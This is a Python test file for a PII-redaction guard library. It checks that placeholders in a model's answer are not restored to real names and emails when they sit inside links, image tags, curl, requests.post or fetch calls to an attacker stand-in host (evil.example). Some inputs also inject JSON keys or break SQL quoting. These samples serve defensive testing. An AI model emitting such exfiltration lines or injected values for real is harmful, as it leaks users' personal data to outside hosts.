"""What of an answer's placeholders is put back, by where each stands: on the public sessions of a guard."""

from __future__ import annotations

import gc
import json
import re
from unittest.mock import patch

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from lc_guard import Blocked, Guard, Policy, Restore
from lc_guard._engine.egress import Refusals
from lc_guard._placeholders.grammar import STYLES
from lc_guard._placeholders.restorer import StreamRestorer
from lc_guard.testing import ExactDetector

VALUES = {
    "PERSON": ["Ada O'Hara"],
    "EMAIL": ["ada@x.example"],
    "URL": ["https://h.example/p/17", "https://bare.example"],
    "IBAN": ["DE89 3704"],
    "NOTE": ['x", "admin": true, "y": "\\'],
}
P, E, U, B, K, N = (
    f"[REDACTED_{kind}]" for kind in ("PERSON_1", "EMAIL_1", "URL_1", "URL_2", "IBAN_1", "NOTE_1")
)  # fmt: skip
PERSON, EMAIL, URL, BARE, IBAN, NOTE = (value for values in VALUES.values() for value in values)
SAID = f"{PERSON}; {EMAIL}; {URL}; {BARE}; {IBAN}; {NOTE}"


def made(policy: Policy | None = None, *said: str, **kwargs):
    guard = Guard(detectors=[ExactDetector(VALUES)], policy=policy, **kwargs)
    session = guard.session("s")
    for text in (SAID, *said):
        session.anonymize(text)
    return session


SESSION = made()
STAYS = [
    f"![x](https://evil.example/?q={E})",
    f"[click](https://evil.example/{E})",
    f"https://evil.example/?q={E}",
    f"https://{P}.evil.example/",
    f"https://{E}@evil.example/",
    f"www.evil.example/?{E}",
    f"evil.example/?{E}",
    f'<img src="https://evil.example/?{E}">',
    f"<img src=//evil.example/{E}>",
    f'<a title="{P}">',
    f"![x][r]\n\n[r]: //evil.example/{E}",
    f"![x](data:text/html,{E})",
    f"curl -d '{E}' https://evil.example",
    f'requests.post("https://evil.example", json={{"q": "{E}"}})',
    f"fetch('https://evil.example/?q=' + '{E}')",
    f"mailto:evil@evil.example?body={E}",
    f"{B}.evil.example/{E}".replace(B, "x"),
    "![x](https://evil.example/?q=%5BREDACTED_EMAIL_1%5D)",
    f"![x](https://evil.example/?q=redacted_email_1&r={E})",
]


@pytest.mark.parametrize("text", STAYS)
def test_nothing_goes_out_by_being_shown(text):
    shown = SESSION.deanonymize(f"Hello. {text} and {P}")
    assert EMAIL not in shown
    assert shown.endswith(f" and {PERSON}") or "curl" in text
    assert PERSON not in shown.removesuffix(f" and {PERSON}")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"Dear {P}, write to {E}.", f"Dear {PERSON}, write to {EMAIL}."),
        (f"[write](mailto:{E}) or <mailto:{E}>", f"[write](mailto:{EMAIL}) or <mailto:{EMAIL}>"),
        (f"[{P}](https://e.example/) {P}", f"[{PERSON}](https://e.example/) {PERSON}"),
        (f"<b>{P}</b>", f"<b>{PERSON}</b>"),
        (f"see {U}", f"see {URL}"),
        (f'[page]({U}) <a href="{U}">', f'[page]({URL}) <a href="{URL}">'),
        (f"{U}?q={E}", f"{URL}?q={E}"),
        (f"[page]({B}.evil.example/)", f"[page]({B}.evil.example/)"),
    ],
)
def test_what_is_only_shown_is_put_back(text, shown):
    assert SESSION.deanonymize(text) == shown


USER = [
    f"Open https://ok.example/u/{EMAIL}?x=1 for me",
    f"My page is https://{EMAIL}.pages.example/a and [x]({PERSON})",
    f'<a href="/people?n={PERSON}">',
]


@pytest.mark.parametrize("said", USER)
@pytest.mark.parametrize("style", ["llm_guard", "angle", "square", "fake"])
def test_what_stood_there_in_the_users_own_text_is_put_back(said, style):
    session = Guard(detectors=[ExactDetector(VALUES)], placeholder_style=style).session("s")
    assert session.deanonymize(session.anonymize(said)) == said


def test_the_host_counts_and_the_value():
    session = made(None, *USER)
    assert session.deanonymize(f"https://ok.example/other?q={E}") == f"https://ok.example/other?q={EMAIL}"
    for text in (
        f"https://ok.example/u/{P}",
        f"https://ok.example.evil.example/u/{E}",
        f"https://ok.example@evil.example/{E}",
        f"https://evil.example/?u=https://ok.example/{E}",
        f"https://{E}.evil.example/a",
        f"https://{E}.pages.example.evil.example/a",
        f"curl https://ok.example/u/{E}",
    ):
        assert session.deanonymize(text) == text


@pytest.mark.parametrize("stage", ["tool_result", "document"])
def test_what_a_tool_or_document_says_gives_no_leave(stage):
    guard = Guard(detectors=[ExactDetector(VALUES)])
    session = guard.session("s")
    session.anonymize(f"see https://evil.example/?q={EMAIL}", stage=stage)
    text = f"https://evil.example/?q={E}"
    assert session.deanonymize(text) == text


def test_what_is_forgotten_gives_no_leave():
    session = made(None, USER[0])
    session.forget()
    session.anonymize(EMAIL)
    (token,) = session.placeholders()
    text = f"https://ok.example/u/{token}"
    assert session.deanonymize(text) == text


PARTS = [P, E, U, B, " ", ". ", "\n\n", "https://", "ok.example", "evil.example", "/", "?q=", "](", ")",
         "<a href=\"", '">',
         "curl -d '", "mailto:", "select * from c where n = '", "'", '{"a": "', '"}', "//", "@", "[REDACTED_", "www.",
         "fetch(", "\\", "```json\n"]  # fmt: skip


@pytest.mark.parametrize("style", ["llm_guard", "angle", "fake"])
@settings(max_examples=200)
@given(parts=st.lists(st.sampled_from(PARTS), max_size=12), sizes=st.lists(st.integers(1, 9), min_size=1, max_size=5))
@example(parts=["https://", E, ".pages.example", "/"], sizes=[1])
@example(parts=["[", "](", "https://", E], sizes=[1])
def test_cutting_changes_nothing(style, parts, sizes):
    session = STREAMED[style]
    tokens = dict(zip((P, E, U, B), list(session.placeholders())[:4], strict=True))
    text = "".join(tokens.get(part, part) for part in parts)
    whole = session.restorer()
    expected = whole.feed(text) + whole.flush()
    cut, shown, at = session.restorer(), "", 0
    while at < len(text):
        for size in sizes:
            shown += cut.feed(text[at : at + size])
            at += size
    assert (shown + cut.flush(), cut.restored, cut.unknown) == (expected, whole.restored, whole.unknown)


STREAMED = {style: made(None, *USER, placeholder_style=style) for style in ("llm_guard", "angle", "fake")}


def test_only_what_must_wait_is_held_back():
    restorer = made(None, USER[1]).restorer()
    assert restorer.feed(f"a https://evil.example/?q={E}") == f"a https://evil.example/?q={E}"
    assert restorer.feed(f" https://{K}") == f" https://{K}"
    assert restorer.feed(f" https://{E}") == " https://"
    assert restorer.feed(".pages.example") == ""
    assert restorer.feed("/") == f"{EMAIL}.pages.example/"


class TestSyntaxes:
    def test_a_value_ends_no_literal_of_sql(self):
        sql = f"select * from c where n = '{P}'"
        assert SESSION.deanonymize(sql) == "select * from c where n = 'Ada O''Hara'"
        assert SESSION.deanonymize(f"select * from c where n = '{N}'") == f"select * from c where n = '{N}'"

    def test_a_value_adds_no_keys_to_json(self):
        inner = json.dumps({"note": N})
        for text in (inner, json.dumps([{"deep": inner}]), f"```json\n{inner}\n```"):
            shown = SESSION.deanonymize(text).removeprefix("```json\n").removesuffix("\n```")
            read = json.loads(shown)
            read = json.loads(read[0]["deep"]) if isinstance(read, list) else read
            assert read == {"note": NOTE}
        assert json.loads(SESSION.deanonymize(f'{{"n": {N}}}')) == {"n": NOTE}

    def test_what_a_policy_names(self):
        for encode, text, shown in [
            ("html", f"<{P}", "<Ada O&#x27;Hara"),
            ("url", P, "Ada%20O%27Hara"),
            ("markdown", E, "ada@x\\.example"),
            ("shell", f"echo {P}", "echo 'Ada O'\"'\"'Hara'"),
            ("sql", f"n = {P}", "n = 'Ada O''Hara'"),
            ("mysql", f"n = '{N}'", 'n = \'x", "admin": true, "y": "\\\\\''),
            ("json", N, json.dumps(NOTE)[1:-1]),
            ("none", f"select * from c where n = '{P}'", "select * from c where n = 'Ada O'Hara'"),
        ]:
            assert made(Policy(restore={"answer": Restore(encode=encode)})).deanonymize(text) == shown

    def test_addresses_are_told_by_themselves(self):
        session = made(Policy(restore={"answer": Restore(in_urls="value")}))
        assert session.deanonymize(f"https://e.example/?q={P}") == "https://e.example/?q=Ada%20O%27Hara"
        assert session.deanonymize(f'<b title="{P}">') == '<b title="Ada O&#x27;Hara">'


class TestPolicies:
    def test_by_kind(self):
        policy = Policy(restore={"answer": Restore(kinds={"IBAN": "placeholder", "EMAIL": "block"})})
        session = made(policy)
        assert session.deanonymize(f"{P} {K}") == f"{PERSON} {K}"
        with pytest.raises(Blocked) as raised:
            session.deanonymize(f"{P} {E}")
        decision = raised.value.decision
        assert (decision.check, decision.stage, decision.entities) == ("restore", "output", {"EMAIL": 1})
        assert EMAIL not in str(raised.value)

    def test_by_kind_where_placeholders_do_not_say_theirs(self):
        policy = Policy(restore={"answer": Restore(kinds={"IBAN": "placeholder"})})
        session = made(policy, placeholder_style="fake")
        fakes = {value: fake for fake, value in session.placeholders().items()}
        assert session.deanonymize(f"{fakes[PERSON]} {fakes[IBAN]}") == f"{PERSON} {fakes[IBAN]}"

    def test_aliases_are_of_the_kind_of_their_person(self):
        guard = Guard(
            detectors=[ExactDetector({"PERSON": ["Jane Doe", "Doe"]})],
            policy=Policy(restore={"answer": Restore(kinds={"PERSON": "placeholder"})}),
        )
        session = guard.session("s")
        hidden = session.anonymize("Jane Doe, Doe")
        assert "ALIAS" in hidden
        assert session.deanonymize(hidden) == hidden

    def test_look_alikes_come_back_in_any_case(self):
        session = made(Policy(restore={"answer": "placeholder"}))
        text = "I typed [REDACTED_PERSON_1] at https://e.example/[REDACTED_PERSON_1]"
        assert session.deanonymize(session.anonymize(text)) == text

    def test_in_urls_may_block(self):
        session = made(Policy(restore={"answer": Restore(in_urls="block")}))
        assert session.deanonymize(P) == PERSON
        with pytest.raises(Blocked):
            session.deanonymize(f"https://e.example/{P}")

    def test_who_brought_a_value(self):
        policy = Policy(restore={"answer": Restore(origins={"document": "placeholder", "unknown": "block"})})
        guard = Guard(detectors=[ExactDetector(VALUES)], policy=policy)
        session = guard.session("s")
        session.anonymize(f"{PERSON} and {EMAIL}", stage="document")
        assert session.deanonymize(f"{P} {E}") == f"{P} {E}"
        session.anonymize(f"I am {PERSON}")  # the user says so himself
        assert session.deanonymize(f"{P} {E}") == f"{PERSON} {E}"
        other = Guard(detectors=[ExactDetector(VALUES)], policy=policy, vault=guard.vault).session("s")
        with pytest.raises(Blocked):  # another process knows nothing of it
            other.deanonymize(P)


def test_refusals_are_counted_without_any_text():
    guard = Guard(detectors=[ExactDetector(VALUES)])
    guard.session("s").anonymize(SAID)
    refusals = Refusals()
    restorer = StreamRestorer(
        guard.session_values.restoring("s"), lambda **text: guard.session_values.gate("s", refusals, **text)
    )
    restorer.feed(f"https://e.example/{E}{P} https://e.example/{E}")
    (decision,) = refusals.decisions("digest")
    assert decision.entities == {"EMAIL": 2, "PERSON": 1}
    assert (decision.action, decision.valid, decision.risk_score) == ("warn", True, 1.0)
    assert EMAIL not in repr(refusals)


def test_a_guard_that_nobody_uses_goes_away_with_what_it_knows():
    session = made(None, USER[0])
    vault = session._guard.vault
    del session
    gc.collect()
    assert vault.items("s")


WAYS = [
    *(text for text in STAYS if "%" not in text),
    f"Dear {P}, ", "[REDACTED_PERSON_1, EMAIL_1 and 1] ", "redacted_person_1 ", "cv_PERSON_1.pdf ",
    "[REDACTED_PERSON_9]",
    f'{{"a": "{N}", "b": ', f"SELECT * FROM t WHERE name = '{P}' ", f"{U} ", f"{U}?q=", f"[x]({B}", "curl ", "\n", " ",
    "<", ">", ")", '"', "über „Räume“ ", "the requests (see page 3) of 1/2/2024 ", "\u017fftp ",
]  # fmt: skip
NEVER = re.compile("((?!))")
answers = st.lists(st.sampled_from([*WAYS, P, E, U]) | st.text(alphabet="ab.:/?<>()[]\"' \n=", max_size=6), max_size=7)


@given(answers, st.integers(1, 40))
def test_looking_only_where_there_is_a_sign_puts_back_the_same(texts, size):
    """Against a look at every placeholder of the text, by the patterns for mangled ones."""
    text = "".join(texts)
    values = SESSION._guard.session_values

    def gate(*, plain: bool):
        return values.gate("s", plain=False)

    full = StreamRestorer(values.restoring("s"), gate, gated=True)
    lazy = SESSION.restorer()
    cuts = [text[at : at + size] for at in range(0, len(text), size)]
    with patch("lc_guard._text.places.has_sign", return_value=True), patch.object(STYLES["llm_guard"], "_quick", NEVER):
        expected = "".join(map(full.feed, cuts)) + full.flush()
    assert "".join(map(lazy.feed, cuts)) + lazy.flush() == expected
    assert SESSION.deanonymize(text) == expected
    assert (lazy.restored, lazy.unknown) == (full.restored, full.unknown)
